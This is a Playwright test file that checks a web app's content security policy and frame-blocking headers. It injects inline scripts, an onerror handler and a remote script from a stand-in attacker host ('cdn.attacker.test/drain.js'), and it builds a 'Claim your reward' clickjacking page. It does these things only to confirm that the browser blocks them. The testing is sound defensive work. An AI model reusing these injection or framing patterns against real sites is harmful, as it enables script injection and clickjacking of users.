// The site's own defences in the browser (scripts/security-policy.mjs, apps/web/README.md, Hosting): the build's
// content security policy lets only the site's own code run, so a script injected into a page (a changed file on the
// host, markup slipped into the HTML, code written into the document) does not run; and the headers keep other sites
// from framing it (a page that frames the site to trick a click on "Approve").
//
// The violations these tests provoke are theirs: their pages carry `CHECK` in the URL, so the run's report collector
// (scripts/e2e.mjs) leaves them out, and the fixture that fails a test on any violation is told to expect them.
import type { Page } from '@playwright/test'
import { expect, live, test } from './fixtures'

test.use({ expectsCspViolations: true })

/** The mark of the pages whose violations are expected (scripts/e2e.mjs). */
const CHECK = 'csp-check'

/** The page at `path` as the host serves it, with `inject` before `</head>`; `headers: false` drops the headers' policy. */
async function serveInjected(page: Page, path: string, inject: string, { headers = true } = {}) {
  await page.route(
    (url) => url.pathname === path && url.searchParams.has(CHECK),
    async (route) => {
      const response = await route.fetch()
      const html = (await response.text()).replace('</head>', `${inject}</head>`)
      const kept = Object.fromEntries(
        Object.entries(response.headers()).filter(
          ([name]) => headers || !['content-security-policy', 'x-frame-options'].includes(name),
        ),
      )
      await route.fulfill({ response, body: html, headers: kept })
    },
  )
}

test('an inline script injected into a page does not run, with the headers and with the page alone', async ({
  page,
  cspViolations,
}) => {
  for (const headers of [true, false]) {
    await page.unrouteAll()
    await serveInjected(page, '/staking', '<script>window.injected = true</script>', { headers })
    await page.goto(`/staking?${CHECK}`)
    // The page's own inline scripts ran (the app started and made the page live); the injected one did not.
    await live(page)
    expect(await page.evaluate(() => (window as { injected?: boolean }).injected)).toBeUndefined()
    await expect
      .poll(() => cspViolations.filter((v) => /^script-src-elem blocked inline/.test(v)).length)
      .toBeGreaterThanOrEqual(headers ? 1 : 2)
  }
  // The policy each page carries (a host that sends no header still has it) and the one of the headers.
  const response = await page.request.get('/staking')
  expect(response.headers()['content-security-policy']).toContain("frame-ancestors 'none'")
  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute(
    'content',
    /script-src 'self' 'sha256-/,
  )
})

test('code written into the live page does not run: an inline script, an event handler, another origin', async ({
  page,
  cspViolations,
}) => {
  await page.goto(`/?${CHECK}`)
  await live(page)
  await page.evaluate(() => {
    const script = document.createElement('script')
    script.textContent = 'window.injectedScript = true'
    document.body.append(script)
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img alt="" src="data:image/png;base64,AAAA" onerror="window.injectedHandler = true">',
    )
    const remote = document.createElement('script')
    remote.src = 'https://cdn.attacker.test/drain.js'
    document.body.append(remote)
  })
  await expect.poll(() => cspViolations.length).toBeGreaterThanOrEqual(3)
  expect(
    await page.evaluate(() => {
      const w = window as { injectedScript?: boolean; injectedHandler?: boolean }
      return [w.injectedScript, w.injectedHandler]
    }),
  ).toEqual([undefined, undefined])
  expect(cspViolations.join('\n')).toMatch(/script-src-elem blocked inline/)
  expect(cspViolations.join('\n')).toMatch(/script-src-attr blocked inline/)
  expect(cspViolations.join('\n')).toMatch(/script-src-elem blocked https:\/\/cdn\.attacker\.test\/drain\.js/)
})

test('a page of another origin cannot frame the site; without the headers it could', async ({
  page,
  baseURL,
}) => {
  const attacker = 'http://attacker.test/'
  const framed = (unprotected: boolean) => `${baseURL}/?${CHECK}${unprotected ? '&unprotected' : ''}`
  // The control: the same page served without the headers (a host without the shipped configuration) is framed.
  await page.route(
    (url) => url.searchParams.has('unprotected'),
    async (route) => {
      const response = await route.fetch()
      const headers = Object.fromEntries(
        Object.entries(response.headers()).filter(
          ([name]) => !['content-security-policy', 'x-frame-options'].includes(name),
        ),
      )
      await route.fulfill({ response, headers })
    },
  )
  for (const unprotected of [false, true]) {
    await page.route(attacker, (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<!doctype html><title>Claim your reward</title><iframe title="site" src="${framed(unprotected)}" width="1200" height="800"></iframe>`,
      }),
    )
    await page.goto(attacker)
    const site = page.frameLocator('iframe[title="site"]')
    if (unprotected) {
      await expect(site.locator('#app main h1').first()).toBeVisible()
    } else {
      // Chromium shows its error page in the frame: nothing of the site is there.
      await expect
        .poll(() =>
          page
            .frames()
            .find((frame) => frame !== page.mainFrame())
            ?.url(),
        )
        .toMatch(/^chrome-error:/)
      await expect(site.locator('#app')).toHaveCount(0)
    }
    await page.unroute(attacker)
  }
})
